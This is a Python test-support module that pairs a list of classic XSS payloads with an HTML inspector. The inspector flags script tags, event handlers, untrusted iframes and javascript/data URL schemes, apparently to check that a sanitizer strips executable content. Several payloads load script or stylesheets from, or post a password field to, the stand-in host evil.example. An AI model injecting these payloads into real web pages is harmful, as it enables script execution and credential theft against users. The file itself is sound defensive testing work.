"""A corpus of classic XSS payloads and a checker that nothing executable survived in some HTML."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from tribu.media.rich import frame_hosts

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">X</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JAVASCRIPT:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">encoded</a>',
    '<a href="&#x6A;avascript:alert(1)">hex encoded</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '[a](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "<div style=\"background:url('javascript:alert(1)')\">styled</div>",
    '<p style="behavior:url(x.htc)">old IE</p>',
    "<style>body{background:red}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=password><button>go</button></form>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror=alert(1)>',
    "<marquee onstart=alert(1)>",
    '<input autofocus onfocus=alert(1)>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    '<a href="https://example.org" onclick="alert(1)">ok link, bad handler</a>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "https://www.youtube.com/watch?v=\"><script>alert(1)</script>",
    'https://www.youtube.com/watch?v=dQw4w9WgXcQ"onload="alert(1)',
    "https://evil.example/watch?v=dQw4w9WgXcQ",
    "https://youtube.com.evil.example/watch?v=dQw4w9WgXcQ",
    "javascript://www.youtube.com/%0Aalert(1)",
    "<a href=\"https://example.org\">fine</a><a href='java\nscript:alert(1)'>newline</a>",
    "<img src=\"x\" alt=\"\" onerror=\"alert(1)\"/>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<template><script>alert(1)</script></template>",
    "<table background=\"javascript:alert(1)\"><tr><td>t</td></tr></table>",
    "<td background=javascript:alert(1)>",
]

DANGEROUS_TAGS = {
    "script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta", "base", "form", "input",
    "button", "textarea", "select", "frame", "frameset", "applet", "template", "noscript", "video", "audio",
    "source", "details", "marquee", "xss", "body", "html", "head",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "background", "poster", "xlink:href", "srcdoc"}
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|file):", re.IGNORECASE)


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "iframe":
            src = values.get("src") or ""
            if not any(src.startswith(host + "/") for host in frame_hosts()) or "srcdoc" in values:
                self.problems.append(f"iframe {src!r}")
            if "sandbox" not in values:
                self.problems.append("iframe without sandbox")
        elif tag == "link" and (values.get("href") or "").startswith("/static/"):
            pass  # the includes' own stylesheet
        elif tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name == "style":
                self.problems.append(f"{tag} style=")
            if name in URL_ATTRIBUTES and value is not None:
                cleaned = re.sub(r"[\x00-\x20]", "", value)
                if BAD_SCHEME.match(cleaned):
                    self.problems.append(f"{tag} {name}={value!r}")

    handle_startendtag = handle_starttag


def dangers(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems
